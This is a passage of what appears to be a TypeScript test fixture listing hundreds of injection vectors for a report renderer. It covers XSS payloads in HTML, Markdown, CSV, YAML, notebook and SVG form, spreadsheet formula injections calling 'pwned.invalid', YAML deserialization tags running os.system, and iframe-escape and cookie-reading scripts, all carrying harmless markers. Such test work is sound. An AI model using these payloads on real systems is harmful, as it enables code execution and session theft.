  ['UTF-7 that says so', (c) => `<meta charset="utf-7">+ADw-img src+AD0-x onerror+AD0-${c.bare}+AD4-`],
  ['letters of a Japanese code', (c) => `<img alt="\x1b$@"><img alt="\x1b(B src=x onerror=${c.bare}//">`],
  ['letters of seven bits', (c) => `\u00bcscript\u00be${c.bare}\u00bc/script\u00be`],
  ['brackets in full width', (c) => `\uff1cscript\uff1e${c.bare}\uff1c/script\uff1e`],
  ['brackets of mathematics', (c) => `\u2039script\u203a${c.bare}\u2039/script\u203a`],
  ['a script of entities', (c) => `&lt;script&gt;${c.js}&lt;/script&gt;`],
  ['a script of entities twice', (c) => `&amp;lt;script&amp;gt;${c.js}&amp;lt;/script&amp;gt;`],
  ['a script of decimal entities', (c) => decimal(c.tag)],
  ['a script of capital entities', (c) => `&LT;img src=x onerror=${c.bare}&GT;`],
  ['a script of hexadecimal entities', (c) => `&#x3c;svg onload=${c.bare}&#x3e;`],
  ['a script of percent signs', (c) => `%3Cscript%3E${percent(c.js)}%3C/script%3E`],
  ['a script of percent signs twice', (c) => `%253Cscript%253E${c.bare}%253C/script%253E`],
  ['a script of overlong percent signs', (c) => `%C0%BCscript%C0%BE${c.bare}%C0%BC/script%C0%BE`],
  ['a script of escapes', (c) => `\\u003cscript\\u003e${c.js}\\u003c/script\\u003e`],
  ['a script of short escapes', (c) => `\\x3cimg src=x onerror=${c.bare}\\x3e`],
  ['a zero entity in a tag', (c) => `<scr&#0;ipt>${c.js}</scr&#0;ipt>`],
  ['a separator of lines', (c) => `\u2028${c.js}\u2029//`],
  ['out of single quotes', (c) => `';${c.bare}//`],
  ['out of double quotes', (c) => `";${c.js};"`],
  ['out of quotes with a backslash', (c) => `\\";${c.js}//`],
  ['out of a template of JavaScript', (c) => `\${${c.js}}`],
  ['out of an attribute', (c) => `"><img src=x onerror="${c.js}">`, 'fires'],
  ['out of an attribute of single quotes', (c) => `'><svg onload=${c.bare}></svg>`, 'fires'],
  ['out of an attribute into another', (c) => `" onmouseover="${c.js}" autofocus onfocus="${c.js}`],
  ['a template of Angular', (c) => `{{constructor.constructor("${c.js}")()}}`],
  ['a template of Vue', (c) => `{{_c.constructor("${c.js}")()}}<b v-html="'${c.id}'">go</b>`],
  ['a template of Alpine', (c) => `<b x-data x-init="${c.js}">go</b>`],
  ['a template of htmx', (c) => `<b hx-get="${c.address}" hx-trigger="load" hx-on::load="${c.js}">go</b>`],
  ['a template of a server', (c) => `<%= ${c.js} %>#{${c.bare}}`],
  ['a marker of Leptos', (c) => `<!--hot-reload|0|open--><!--/-->${c.tag}`, 'fires'],
  ['a marker of Leptos that ends', (c) => `<!><!---->${c.img}<!>`, 'fires'],
];

const MARKDOWN: Vector[] = [
  ['a link', (c) => `[go](javascript:${c.link})`],
  ['a link in mixed case', (c) => `[go](JaVaScRiPt:${c.link})`],
  ['a link in brackets', (c) => `[go](<javascript:${c.link}>)`],
  ['a link in brackets behind a space', (c) => `[go](< javascript:${c.link}>)`],
  ['a link with a title', (c) => `[go](javascript:${c.link} "x")`],
  ['a link whose title ends an attribute', (c) => `[go](http://127.0.0.1/ "x&quot; onmouseover=&quot;${c.bare}")`],
  ['a link whose title has quotes', (c) => `[go](http://127.0.0.1/ '"><img src=x onerror=${c.bare}>')`],
  ['a link whose address has quotes', (c) => `[go](http://127.0.0.1/"onmouseover="${c.bare})`],
  ['a link with a named colon', (c) => `[go](javascript&colon;${c.link})`],
  ['a link with a named tab', (c) => `[go](java&Tab;script:${c.link})`],
  ['a link with a numbered tab', (c) => `[go](java&#9;script:${c.link})`],
  ['a link with a numbered line break', (c) => `[go](java&#10;script:${c.link})`],
  ['a link behind a numbered control character', (c) => `[go](&#1;javascript:${c.link})`],
  ['a link of decimal entities', (c) => `[go](${decimal(`javascript:${c.link}`)})`],
  ['a link with a backslash', (c) => `[go](javascript\\:${c.link})`],
  ['a link with a percent sign', (c) => `[go](javascript%3A${c.link})`],
  ['a link with a comment', (c) => `[go](javascript://127.0.0.1/%0a${c.link})`],
  ['a link of Visual Basic', (c) => `[go](vbscript:MsgBox(${c.bare}))`],
  ['a link to a page of its own', (c) => `[go](data:text/html;base64,${base64(c.tag)})`],
  ['a link to a page of its own with a tab', (c) => `[go](da&#9;ta:text/html;base64,${base64(c.tag)})`],
  ['a link to a page of its own behind a control character', (c) => `[go](&#2;data:text/html;base64,${base64(c.tag)})`],
  ['a link to a picture that runs', (c) => `[go](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c.js}"/>`)})`],
  ['a link to a file', (c) => `[go](file:///etc/passwd#${c.id})`],
  ['a link by reference', (c) => `[go][r${c.id}]\n\n[r${c.id}]: javascript:${c.link}`],
  ['a link by reference with a title', (c) => `[go][t${c.id}]\n\n[t${c.id}]: http://127.0.0.1/ '"><img src=x onerror=${c.bare}>'`],
  ['a link by reference on two lines', (c) => `[go][l${c.id}]\n\n[l${c.id}]:\n  <javascript:${c.link}>\n  "x"`],
  ['a link by its own name', (c) => `[n${c.id}]\n\n[n${c.id}]: vbscript:${c.bare}`],
  ['a picture', (c) => `![go](javascript:${c.link})`],
  ['a picture whose text ends an attribute', (c) => `![x" onerror="${c.js}](x)`],
  ['a picture whose text has a tag', (c) => `![<img src=x onerror=${c.bare}>](x)`],
  ['a picture whose address ends an attribute', (c) => `![go](x"onerror="${c.bare})`],
  ['a picture whose title ends an attribute', (c) => `![go](x 'x" onerror="${c.bare}')`],
  ['a picture of SVG', (c) => `![go](data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" onload="${c.up}"/>`)})`],
  ['a picture by reference', (c) => `![go][p${c.id}]\n\n[p${c.id}]: javascript:${c.link} 'x" onerror="x'`],
  ['a picture in a link', (c) => `[![go](x)](javascript:${c.link})`],
  ['an address', (c) => `<javascript:${c.link}>`],
  ['an address with a comment', (c) => `<javascript://127.0.0.1/%0a${c.link}>`],
  ['an address of data', (c) => `<data:text/html;base64,${base64(c.tag)}>`],
  ['an address of mail', (c) => `<${c.id}"onclick=x@127.0.0.1>`],
  ['a bare address', (c) => `javascript://127.0.0.1/%0a${c.link}`],
  ['the language of a fence', (c) => `\`\`\`"><img/src=x/onerror=${c.bare}>\ncode\n\`\`\``],
  ['the language of a fence with quotes', (c) => `~~~ x" onmouseover="${c.bare}\ncode\n~~~`],
  ['the language of a fence of entities', (c) => `\`\`\`&quot;&gt;&lt;svg/onload=${c.bare}&gt;\ncode\n\`\`\``],
  ['a fence that ends a block', (c) => `\`\`\`\n</code></pre>${c.tag}\n\`\`\``],
  ['code in a line', (c) => `\`</code>${c.img}\``],
  ['code that is indented', (c) => `    </code></pre>${c.tag}`],
  ['a heading', (c) => `# ${c.img} {#x onclick=${c.bare}}`],
  ['a heading with attributes', (c) => `## go {onmouseover="${c.js}"}`],
  ['a heading that is underlined', (c) => `${c.tag}\n===`],
  ['a quotation', (c) => `> ${c.tag}`],
  ['a list', (c) => `- ${c.img}\n- [go](javascript:${c.link})`],
  ['a task', (c) => `- [x] <input type=checkbox onfocus="${c.js}" autofocus>`],
  ['a table', (c) => `| a | ${c.img} |\n|---|---|\n| ${c.tag} | [go](javascript:${c.link}) |`],
  ['a foot note', (c) => `go[^f${c.id}]\n\n[^f${c.id}]: ${c.img} [go](javascript:${c.link})`],
  ['a name of a foot note', (c) => `go[^"><img/src=x/onerror=${c.bare}>]\n\n[^"><img/src=x/onerror=${c.bare}>]: note`],
  ['a tag in a line', (c) => `words <svg onload="${c.js}"></svg> words`],
  ['a tag over two lines', (c) => `words <img src=x\nonerror="${c.js}"> words`],
  ['a tag in a word', (c) => `**x**<img src=x onerror="${c.js}">**y**`],
  ['a tag with emphasis in it', (c) => `<img src=x onerror=*${c.bare}*>`],
  ['a tag that is escaped', (c) => `\\<img src=x onerror="${c.js}">`],
  ['a block with Markdown in it', (c) => `<div markdown="1" onclick="${c.js}">\n\n[go](javascript:${c.link})\n\n</div>`],
  ['a block of a form', (c) => `<form action="javascript:${c.link}">\n<button>go</button>\n</form>`],
  ['a link around a block', (c) => `<a href="javascript:${c.link}">\n\n# go\n\n</a>`],
  ['a formula', (c) => `$\\href{javascript:${c.link}}{go}$ $$\\unicode{<img src=x onerror=${c.bare}>}$$`],
  ['a diagram', (c) => `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${c.bare}>"]; click A "javascript:${c.link}"\n\`\`\``],
  ['words before a document', (c) => `---\ntitle: "${c.tag}"\n---`],
  ['a comment by reference', (c) => `[//]: # (--><script>${c.bare}</script>)\n\ngo`],
  ['a link among underscores', (c) => `_[go](javascript:${c.link})_`],
  ['a struck picture', (c) => `~~${c.img}~~`],
  ['a block in another block', (c) => `<details open ontoggle="${c.js}"><summary>go</summary>\n\n${c.tag}\n\n</details>`],
];

const CELLS: Vector[] = [
  ['a script in a cell', (c) => c.tag],
  ['a picture in a cell', (c) => c.img],
  ['out of a cell', (c) => `</td></tr></table>${c.tag}`],
  ['out of a row', (c) => `</tr><tr onmouseover="${c.js}"><td>`],
  ['out of a heading', (c) => `</th></thead><tbody><tr><td>${c.img}`],
  ['out of an attribute', (c) => `" onmouseover="${c.js}`],
  ['out of a title', (c) => `" title="x" autofocus tabindex="1" onfocus="${c.bare}`],
  ['a quote within a quote', (c) => `""><svg onload=${c.bare}>""`],
  ['a formula that links', (c) => `=HYPERLINK("javascript:${c.link}","go")`],
  ['a formula that calls', (c) => `=cmd|' /C echo ${c.id}'!A0`],
  ['a formula that asks', (c) => `=WEBSERVICE("http://pwned.invalid/${c.id}")`],
  ['a formula that imports', (c) => `=IMPORTXML("http://pwned.invalid/${c.id}","//a")`],
  ['a formula with a plus', (c) => `+HYPERLINK("javascript:${c.bare}")`],
  ['a formula with a minus', (c) => `-2+3+cmd|' /C ${c.id}'!A0`],
  ['a formula with an at', (c) => `@SUM(1+1)*cmd|' /C ${c.id}'!A0`],
  ['a formula behind a tab', (c) => `\t=HYPERLINK("javascript:${c.link}")`],
  ['a formula behind a line break', (c) => `\n=HYPERLINK("vbscript:${c.bare}")`],
  ['a link by itself', (c) => `javascript:${c.link}`],
  ['a link by itself with a comment', (c) => `javascript://127.0.0.1/%0a${c.link}`],
  ['an address of data by itself', (c) => `data:text/html;base64,${base64(c.tag)}`],
  ['a link among words', (c) => `see <a href="javascript:${c.link}">this</a>`],
  ['a cell of two lines', (c) => `<script>\n${c.js}\n</script>`],
  ['a cell of entities', (c) => `&lt;img src=x onerror=${c.bare}&gt;`],
  ['a cell of escapes', (c) => `\\u003cimg src=x onerror=${c.bare}\\u003e`],
  ['a script that ends the data of a page', (c) => `</script><script>${c.js}</script>`],
  ['a comment that hides the end of the data', (c) => `<!--<script>${c.bare}`],
  ['a comment that ends', (c) => `-->${c.img}<!--`],
  ['character data that ends', (c) => `]]>${c.tag}<![CDATA[`],
  ['a number that is none', (c) => `1e3<svg onload=${c.bare}>`],
  ['a number with a unit', (c) => `0x1f"><img src=x onerror=${c.bare}>`],
  ['a missing value', (c) => `NA<img src=x onerror="${c.js}">`],
  ['a value of yes and no', (c) => `true" onclick="${c.js}`],
  ['a separator within a value', (c) => `a,b;c|d<img src=x onerror="${c.js}">`],
  ['a separator of lines', (c) => `\u2028${c.img}\u2029`],
  ['a value that is turned around', (c) => `\u202e>tpircs/<${c.js}>tpircs<\u202c`],
  ['a template', (c) => `{{constructor.constructor("${c.js}")()}}`],
];

const HEADERS: Vector[] = [
  ['a script in a name', (c) => c.tag],
  ['a picture in a name', (c) => c.img],
  ['out of a name', (c) => `</span></th></table>${c.img}`],
  ['out of an attribute', (c) => `"><svg onload=${c.bare}>`],
  ['a handler', (c) => `" onclick="${c.js}" x="`],
  ['a link to sort', (c) => `javascript:${c.link}`],
  ['the data of a page', (c) => `</script>${c.tag}`],
  ['a name of the language', (c) => `__proto__.${c.id}`],
  ['a name that builds', (c) => `constructor["prototype"]['${c.bare}']`],
  ['a formula', (c) => `=HYPERLINK("javascript:${c.link}")`],
];

const VALUES: Vector[] = [
  ['a script in a value', (c) => c.tag],
  ['a picture in a value', (c) => c.img],
  ['the end of the data', (c) => `</script><script>${c.js}</script>`],
  ['the end of the data in mixed case', (c) => `</ScRiPt ><img src=x onerror="${c.js}">`],
  ['a comment before the end of the data', (c) => `<!--<script>${c.js}`],
  ['a separator of lines', (c) => `\u2028;${c.js};\u2029`],
  ['out of the text', (c) => `"};${c.js};//`],
  ['out of the text with a backslash', (c) => `\\"};${c.js};//`],
  ['an address', (c) => `javascript:${c.link}`],
  ['an address of data', (c) => `data:text/html,${c.tag}`],
  ['an address that looks right', (c) => `https://127.0.0.1/" onmouseover="${c.js}`],
  ['half a letter', (c) => `\ud800${c.img}`],
  ['letters to the left', (c) => `\u202e\u2066${c.img}\u2069`],
  ['out of a list', (c) => `</li></ul></details>${c.img}`],
];

const KEYS: Vector[] = [
  ['a script in a key', (c) => c.tag],
  ['a picture in a key', (c) => c.img],
  ['out of an attribute', (c) => `" onmouseover="${c.js}`],
  ['a name of the language', (c) => `__proto__[${c.id}]`],
  ['the end of the data', (c) => `</script>${c.img}`],
  ['out of a summary', (c) => `</summary></details><svg onload=${c.bare}>`],
  ['an address', (c) => `javascript:${c.link}`],
  ['an empty name before a tag', (c) => `\u200b<img src=x onerror=${c.bare}>`],
];

/** Each is an entry of a mapping, with its mark. */
const YAML: Vector[] = [
  ['a script', (c) => `seen-${c.id}: "${c.tag}"`],
  ['a picture without quotes', (c) => `seen-${c.id}: <img src=x onerror=${c.bare}>`],
  ['a picture in single quotes', (c) => `seen-${c.id}: '<img src=x onerror=${c.bare}>'`],
  ['escapes', (c) => `seen-${c.id}: "\\x3cscript\\x3e${c.js}\\u003c/script\\u003e"`],
  ['a block', (c) => `seen-${c.id}: |\n  <script>\n  ${c.js}\n  </script>`],
  ['a folded block', (c) => `seen-${c.id}: >-\n  <img src=x\n  onerror="${c.js}">`],
  ['a list', (c) => `seen-${c.id}: [ '<svg onload=${c.bare}>', "javascript:${c.link}" ]`],
  ['a mapping in a line', (c) => `seen-${c.id}: { "<b onclick=${c.bare}>": x }`],
  ['a key', (c) => `"<img src=x onerror=${c.bare}>": seen-${c.id}`],
  ['a key of more', (c) => `? |\n  <script>${c.js}</script>\n: seen-${c.id}`],
  ['a key that ends an attribute', (c) => `'" onmouseover="${c.bare}': seen-${c.id}`],
  ['a comment', (c) => `seen-${c.id}: x # ${c.tag}`],
  ['an address', (c) => `seen-${c.id}: javascript:${c.link}`],
  ['the end of the data', (c) => `seen-${c.id}: "</script>${c.tag}"`],
  ['an anchor', (c) => `seen-${c.id}: &a${c.id} "<img src=x onerror=${c.bare}>"\nagain-${c.id}: *a${c.id}`],
];

/** The same; a parser may refuse these. */
const TAGS: Vector[] = [
  ['a call of Python', (c) => `seen-${c.id}: !!python/object/apply:os.system ["echo ${c.id}"]`],
  ['a new object of Python', (c) => `seen-${c.id}: !!python/object/new:subprocess.Popen [["echo", "${c.id}"]]`],
  ['a name of Python', (c) => `seen-${c.id}: !!python/name:builtins.exec "${c.bare}"`],
  ['a module of Python', (c) => `seen-${c.id}: !!python/module:os "${c.id}"`],
  ['a function of JavaScript', (c) => `seen-${c.id}: !!js/function "function(){${c.js}}"`],
  ['an object of Ruby', (c) => `seen-${c.id}: !ruby/object:Gem::Installer { i: "${c.id}" }`],
  ['an object of Java', (c) => `seen-${c.id}: !!javax.script.ScriptEngineManager [!!java.net.URL ["http://pwned.invalid/${c.id}"]]`],
  ['a tag with a tag', (c) => `seen-${c.id}: !<tag:x,2000:%3Cscript%3E> "${c.bare}"`],
  ['bytes', (c) => `seen-${c.id}: !!binary "${base64(c.tag)}"`],
];

interface Output {
  output_type: string;
  [key: string]: unknown;
}
const markdown = (c: Code, text: string) => JSON.stringify({ cell_type: 'markdown', metadata: {}, source: `seen-${c.id}\n\n${text}` });
const ran = (c: Code, ...outputs: Output[]) => JSON.stringify({ cell_type: 'code', execution_count: 1, metadata: {}, source: [`# seen-${c.id}\n`, 'show()'], outputs });
const display = (data: object): Output => ({ output_type: 'display_data', metadata: {}, data });
const error = (traceback: string[], ename = 'E', evalue = 'e'): Output => ({ output_type: 'error', ename, evalue, traceback });

/** Each is a cell of a notebook, as JSON, with its mark. */
const CELLS_OF_NOTEBOOKS: Vector[] = [
  ['a script in Markdown', (c) => markdown(c, c.tag)],
  ['a picture in Markdown', (c) => markdown(c, c.img)],
  ['a link in Markdown', (c) => markdown(c, `[go](javascript:${c.link})`)],
  ['a link with a tab in Markdown', (c) => markdown(c, `<a href="java&Tab;script:${c.link}">go</a>`)],
  ['an attachment in Markdown', (c) => JSON.stringify({ cell_type: 'markdown', metadata: {}, attachments: { 'x"onerror="': { 'image/svg+xml': c.tag } }, source: `seen-${c.id} ![x](attachment:x"onerror="${c.bare})` })],
  ['a formula in Markdown', (c) => markdown(c, `$$\\href{javascript:${c.link}}{\\text{<img src=x onerror=${c.bare}>}}$$`)],
  ['a script in HTML', (c) => ran(c, display({ 'text/html': c.tag }))],
  ['a picture in HTML', (c) => ran(c, display({ 'text/html': ['<b>', c.img, '</b>'] }))],
  ['a frame in HTML', (c) => ran(c, display({ 'text/html': `<iframe srcdoc="<script>${c.up}</script>"></iframe>` }))],
  ['a style in HTML', (c) => ran(c, display({ 'text/html': `<style scoped>@import '${c.address}';</style><table class=dataframe><td>go</table>` }))],
  ['a form in HTML', (c) => ran(c, display({ 'text/html': `<form action="javascript:${c.link}"><button>go</button></form>` }))],
  ['a program in HTML', (c) => ran(c, display({ 'text/html': `<div id="x"></div><script type="module">import x from 'data:text/javascript,${percent(c.js)}'</script>` }))],
  ['HTML beside plain text', (c) => ran(c, display({ 'text/plain': '<Figure>', 'text/html': `<svg onload="${c.js}"></svg>` }))],
  ['HTML as a result', (c) => ran(c, { output_type: 'execute_result', execution_count: 1, metadata: {}, data: { 'text/html': `<details open ontoggle="${c.js}">go</details>` } })],
  ['HTML of an update', (c) => ran(c, { output_type: 'update_display_data', metadata: {}, data: { 'text/html': `<video src=x onerror="${c.js}">` } })],
  ['JavaScript', (c) => ran(c, display({ 'application/javascript': c.js, 'text/plain': '<IPython.core.display.Javascript object>' }))],
  ['JavaScript alone', (c) => ran(c, display({ 'application/javascript': ['element.append("x");\n', c.js] }))],
  ['old JavaScript', (c) => ran(c, display({ 'text/javascript': c.js }))],
  ['SVG with a script', (c) => ran(c, display({ 'image/svg+xml': `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><script>${c.up}</script></svg>` }))],
  ['SVG that is loaded', (c) => ran(c, display({ 'image/svg+xml': [`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="${c.up}">`, '</svg>'] }))],
  ['a picture that ends an attribute', (c) => ran(c, display({ 'image/png': `x" onerror="${c.js}` }))],
  ['a photograph that is a page', (c) => ran(c, display({ 'image/jpeg': base64(c.tag) }))],
  ['plain text', (c) => ran(c, display({ 'text/plain': c.tag }))],
  ['Markdown', (c) => ran(c, display({ 'text/markdown': `[go](javascript:${c.link}) ${c.img}` }))],
  ['LaTeX', (c) => ran(c, display({ 'text/latex': `$\\href{javascript:${c.link}}{go}$<img src=x onerror=${c.bare}>` }))],
  ['a widget', (c) => ran(c, display({ 'application/vnd.jupyter.widget-view+json': { model_id: `"><img src=x onerror=${c.bare}>`, version_major: 2 } }))],
  ['a chart', (c) => ran(c, display({ 'application/vnd.plotly.v1+json': { data: [{ text: c.img }], layout: { title: c.tag } } }))],
  ['a kind of output', (c) => ran(c, display({ [`"><img src=x onerror=${c.bare}>`]: 'x' }))],
  ['JSON', (c) => ran(c, display({ 'application/json': { [c.img]: c.tag } }))],
  ['PDF', (c) => ran(c, display({ 'application/pdf': base64(`%PDF-1.4 /OpenAction << /S /JavaScript /JS (app.alert("${c.id}")) >>`) }))],
  ['a stream', (c) => ran(c, { output_type: 'stream', name: 'stdout', text: [c.tag, '\n', c.img] })],
  ['a stream with colours', (c) => ran(c, { output_type: 'stream', name: 'stderr', text: `\x1b[31m<img src=x \x1b[0monerror="${c.js}">` })],
  ['a name of a stream', (c) => ran(c, { output_type: 'stream', name: `x" onclick="${c.js}`, text: 'x' })],
  ['a trace of an error', (c) => ran(c, error([`\x1b[0;31m<img src=x onerror="${c.js}">\x1b[0m`, c.tag]))],
  ['a trace with a link', (c) => ran(c, error([`\x1b]8;;javascript:${c.link}\x07File\x1b]8;;\x07 <scr\x1b[0mipt>${c.js}</scr\x1b[0mipt>`]))],
  ['a name of an error', (c) => ran(c, error([], c.tag, c.img))],
  ['a program with a tag', (c) => JSON.stringify({ cell_type: 'code', execution_count: null, metadata: {}, outputs: [], source: `# seen-${c.id}\nx = """</code></pre>${c.tag}"""` })],
  ['a raw cell', (c) => JSON.stringify({ cell_type: 'raw', metadata: { format: 'text/html' }, source: `seen-${c.id} ${c.img}` })],
  ['a kind of cell', (c) => JSON.stringify({ cell_type: `"><svg onload=${c.bare}>`, metadata: {}, source: `seen-${c.id}` })],
  ['a name of a cell', (c) => JSON.stringify({ id: `x" onclick="${c.bare}`, cell_type: 'markdown', metadata: { tags: [c.tag], name: c.img }, source: `seen-${c.id}` })],
  ['a count that is none', (c) => JSON.stringify({ cell_type: 'code', execution_count: c.img, metadata: { collapsed: c.tag }, outputs: [], source: `# seen-${c.id}` })],
];

/** Metadata of notebooks; each makes a notebook of its own. */
const LANGUAGES: Vector[] = [
  ['a language', (c) => `python"><img src=x onerror="${c.js}">`],
  ['a language of a handler', (c) => `r" onclick="${c.js}`],
  ['a language of a script', (c) => `</script><script>${c.bare}</script>`],
];

/** Well-formed XML, each inside its own `<svg>`. */
const PICTURES: Vector[] = [
  ['a script', (c) => `<script>${c.up}</script>`],
  ['a script in character data', (c) => `<script><![CDATA[${c.js}]]></script>`],
  ['a script from data', (c) => `<script href="data:text/javascript,${percent(c.js)}"/>`],
  ['a script from an old address', (c) => `<script xlink:href="data:text/javascript;base64,${base64(c.up)}"/>`],
  ['a script from this server', (c) => `<script href="${c.address}"/>`],
  ['a script of XHTML', (c) => `<html:script>${c.js}</html:script>`],
  ['a shape that is loaded', (c) => `<g onload="${c.js}"><rect width="9" height="9"/></g>`],
  ['a picture that fails', (c) => `<image href="x" width="9" height="9" onerror="${c.js}"/>`],
  ['a picture from this server', (c) => `<image href="${c.address}" width="9" height="9"/>`],
  ['a picture of a script', (c) => `<image href="javascript:${c.link}" width="9" height="9"/>`],
  ['a filter from this server', (c) => `<filter id="f${c.id}"><feImage href="${c.address}"/></filter><rect filter="url(#f${c.id})" width="9" height="9"/>`],
  ['a foreign script', (c) => `<foreignObject width="9" height="9"><html:body><html:script>${c.up}</html:script></html:body></foreignObject>`],
  ['a foreign picture', (c) => `<foreignObject width="9" height="9"><html:img src="x" onerror="${c.js}"/></foreignObject>`],
  ['a foreign frame', (c) => `<foreignObject width="9" height="9"><html:iframe src="javascript:void(${c.up})"/></foreignObject>`],
  ['a foreign page', (c) => `<foreignObject width="9" height="9"><html:iframe srcdoc="&lt;script>${c.up}&lt;/script>"/></foreignObject>`],
  ['a foreign object', (c) => `<foreignObject width="9" height="9"><html:object data="data:text/html;base64,${base64(`<script>${c.up}</script>`)}"/></foreignObject>`],
  ['a foreign refresh', (c) => `<foreignObject width="9" height="9"><html:meta http-equiv="refresh" content="0;url=${c.address}"/></foreignObject>`],
  ['a foreign form', (c) => `<foreignObject width="9" height="9"><html:form action="${c.address}"><html:button autofocus="" onfocus="this.form.submit()">go</html:button></html:form></foreignObject>`],
  ['a foreign film', (c) => `<foreignObject width="9" height="9"><html:video src="x" onerror="${c.js}"/></foreignObject>`],
  ['an animation that begins', (c) => `<rect width="9" height="9"><animate attributeName="x" dur="1s" onbegin="${c.js}"/></rect>`],
  ['an animated address', (c) => `<a href="#x"><animate attributeName="href" to="javascript:${c.link}" dur="1ms" fill="freeze"/><rect width="9" height="9"/></a>`],
  ['an address that is set', (c) => `<a href="#x"><set attributeName="href" to="javascript:${c.link}"/><rect width="9" height="9"/></a>`],
  ['a handler that is set', (c) => `<rect width="9" height="9"><set attributeName="onmouseover" to="${c.js}"/></rect>`],
  ['a handler of the mouse', (c) => `<rect width="9" height="9" onmouseover="${c.js}" onclick="${c.js}"/>`],
  ['a handler of the focus', (c) => `<rect width="9" height="9" tabindex="1" autofocus="" onfocusin="${c.js}"/>`],
  ['a link', (c) => `<a href="javascript:${c.link}"><rect width="9" height="9"/></a>`],
  ['an old link', (c) => `<a xlink:href="java&#9;script:${c.link}"><rect width="9" height="9"/></a>`],
  ['a link to the page around', (c) => `<a href="${c.address}" target="_top"><rect width="9" height="9"/></a>`],
  ['something used from data', (c) => `<use href="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg" id="x" onload="${c.up}"/>`)}#x"/>`],
  ['something used from this server', (c) => `<use href="${c.address}#x"/>`],
  ['a style that imports', (c) => `<style>@import url('${c.address}');</style>`],
  ['a style that asks', (c) => `<rect width="9" height="9" style="fill:url('${c.address}#x')"/>`],
  ['a title and a description', (c) => `<title>&lt;/title>&lt;script>${c.js}&lt;/script></title><desc><html:script>${c.js}</html:script></desc>`],
  ['metadata', (c) => `<metadata><html:img src="x" onerror="${c.js}"/></metadata>`],
  ['a text with a handler', (c) => `<text y="9" onclick="${c.js}">seen</text>`],
  ['something thrown away', (c) => `<rect width="9" height="9"><discard begin="0s" onbegin="${c.js}"/></rect>`],
];

/** Attributes of a picture's root element. */
const ROOTS: Vector[] = [
  ['loaded', (c) => `onload="${c.up}"`],
  ['that begins', (c) => `onbegin="${c.js}" onend="${c.js}"`],
  ['with the focus', (c) => `tabindex="1" autofocus="" onfocus="${c.js}" onfocusin="${c.js}"`],
  ['pointed at', (c) => `onmouseover="${c.js}" onclick="${c.js}" onactivate="${c.js}"`],
  ['with a base', (c) => `xml:base="javascript:${c.link}//" onunload="${c.js}"`],
];

/** Programs of a report, each of which tries to reach something outside the report. */
const PROGRAMS: Vector[] = [
  ['a value of the page around', (c) => `parent.__pwned = '${c.id}'`],
  ['a value of the outermost page', (c) => `top['__pwned'] = '${c.id}'`],
  ['a title of the page around', (c) => `parent.document.title = 'pwned-${c.id}'`],
  ['an element of the page around', (c) => `parent.document.body.insertAdjacentHTML('beforeend', "<img src=x onerror=\\"__pwned='${c.id}'\\">")`],
  ['a program for the page around', (c) => `parent.eval("__pwned='${c.id}'")`],
  ['a timer of the page around', (c) => `parent.setTimeout("__pwned='${c.id}'", 0)`],
  ['a function of the page around', (c) => `parent.Function("__pwned='${c.id}'")()`],
  ['a function of a function of the page around', (c) => `parent.postMessage.constructor("top.__pwned='${c.id}'")()`],
  ['an address of the page around', (c) => `parent.location = 'javascript:void(__pwned=\\'${c.id}\\')'`],
  ['another page around', (c) => `top.location = '/pwned?${c.id}'`],
  ['another page around, replaced', (c) => `top.location.replace('//pwned.invalid/${c.id}')`],
  ['a part of the page around', (c) => `parent.location.hash = 'pwned-${c.id}'`],
  ['the history of the page around', (c) => `parent.history.pushState(0, '', '/pwned?${c.id}')`],
  ['the frame around', (c) => `frameElement.removeAttribute('sandbox'); frameElement.srcdoc = "<script>top.__pwned='${c.id}'<\\/script>"`],
  ['another frame', (c) => `parent.frames[0].parent.__pwned = '${c.id}'`],
  ['a message with a program', (c) => `parent.postMessage({ type: 'eval', code: "__pwned='${c.id}'", html: '<img src=x onerror=__pwned=1>' }, '*')`],
  ['a message with a page', (c) => `top.postMessage('<script>top.__pwned="${c.id}"<\\/script>', '*')`],
  ['a name of the page around', (c) => `self.name = '__pwned'; parent.name = '${c.id}'`],
  ['a question to this server', (c) => `fetch('/pwned?${c.id}', { credentials: 'include' }).catch(() => 0)`],
  ['a question without an answer', (c) => `fetch('/pwned?${c.id}&mode', { mode: 'no-cors', credentials: 'include' }).catch(() => 0)`],
  ['a question to a function', (c) => `fetch('/_fn/results/list?pwned=${c.id}', { method: 'POST', body: '{}' }).catch(() => 0)`],
  ['an old question', (c) => `const ask = new XMLHttpRequest(); ask.open('GET', '/pwned?${c.id}'); ask.withCredentials = true; ask.onerror = () => 0; ask.send()`],
  ['a question that waits for none', (c) => `navigator.sendBeacon('/pwned?${c.id}', 'x')`],
  ['a question of a picture', (c) => `const img = new Image(); img.onerror = () => 0; img.src = '/pwned?${c.id}'; document.body.append(img)`],
  ['a question of a style', (c) => `document.body.style.background = "url('/pwned?${c.id}')"`],
  ['a question of a font', (c) => `new FontFace('x', "url('/pwned?${c.id}')").load().catch(() => 0)`],
  ['a stream of this server', (c) => `const stream = new EventSource('/pwned?${c.id}', { withCredentials: true }); stream.onerror = () => stream.close()`],
  ['a socket of this server', (c) => `new WebSocket('ws://' + '127.0.0.1/pwned?${c.id}').onerror = () => 0`],
  ['a script of this server', (c) => `const script = document.createElement('script'); script.onerror = () => 0; script.src = '/pwned?${c.id}'; document.body.append(script)`],
  ['a module of this server', (c) => `import('/pwned?${c.id}').catch(() => 0)`],
  ['a program in the background', (c) => `new Worker(URL.createObjectURL(new Blob(["fetch('" + new URL('/pwned?${c.id}', location.href) + "').catch(() => 0)"]))).onerror = (event) => event.preventDefault()`],
  ['a program that stays', (c) => `navigator.serviceWorker.register('/pwned?${c.id}').catch(() => 0)`],
  ['a cookie', (c) => `document.cookie = 'pwned=${c.id}; path=/'`],
  ['the cookies', (c) => `const cookies = document.cookie; parent.__pwned = '${c.id}' + cookies`],
  ['a cookie by promise', (c) => `cookieStore.set('pwned', '${c.id}').catch(() => 0)`],
  ['what is kept', (c) => `localStorage.setItem('pwned', '${c.id}')`],
  ['what is kept for a session', (c) => `sessionStorage.setItem('pwned', '${c.id}'); parent.__pwned = '${c.id}'`],
  ['a database', (c) => `indexedDB.open('pwned-${c.id}').onerror = (event) => event.preventDefault()`],
